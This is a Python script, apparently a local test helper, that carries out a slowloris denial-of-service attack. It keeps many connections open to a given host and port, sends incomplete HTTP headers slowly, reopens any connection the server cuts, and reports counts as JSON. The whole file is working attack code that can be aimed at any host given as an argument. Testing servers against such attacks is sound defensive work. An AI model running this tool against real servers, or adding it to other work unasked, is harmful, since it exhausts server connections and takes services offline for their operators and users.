#!/usr/bin/env python3
"""slowloris_local.py — a local slowloris that reopens every cut connection.

Usage: slowloris_local.py HOST PORT CONNS SOURCE

Keeps CONNS connections from SOURCE (a local address, e.g. 127.0.0.2) to
HOST:PORT, each sending an unfinished GET /health header block, one more
header line every 5 s; a connection the server closes or refuses is opened
again at once (a refused connect is retried every 0.1 s, so the attack is
in place as soon as the server listens). On SIGTERM it prints
{"opened": n, "cut": n, "max_open": n} and exits.
"""
import json
import selectors
import signal
import socket
import sys
import time

host, port, conns, source = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
sel = selectors.DefaultSelector()
opened = cut = max_open = 0
live = {}  # socket -> next trickle time
running = True


def stop(*_):
    global running
    running = False


signal.signal(signal.SIGTERM, stop)
signal.signal(signal.SIGINT, stop)


def connect():
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((source, 0))
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    except OSError:
        s.close()
        return False
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)
    live[s] = time.monotonic() + 5
    opened += 1
    return True


def drop(s):
    global cut
    sel.unregister(s)
    del live[s]
    s.close()
    cut += 1


while running:
    while running and len(live) < conns:
        if not connect():
            time.sleep(0.1)
            break
    max_open = max(max_open, len(live))
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            if not s.recv(4096):
                drop(s)
        except OSError:
            drop(s)
    now = time.monotonic()
    for s, t in list(live.items()):
        if now >= t:
            try:
                s.send(b"X-a: b\r\n")
                live[s] = now + 5
            except OSError:
                drop(s)
print(json.dumps({"opened": opened, "cut": cut, "max_open": max_open}), flush=True)
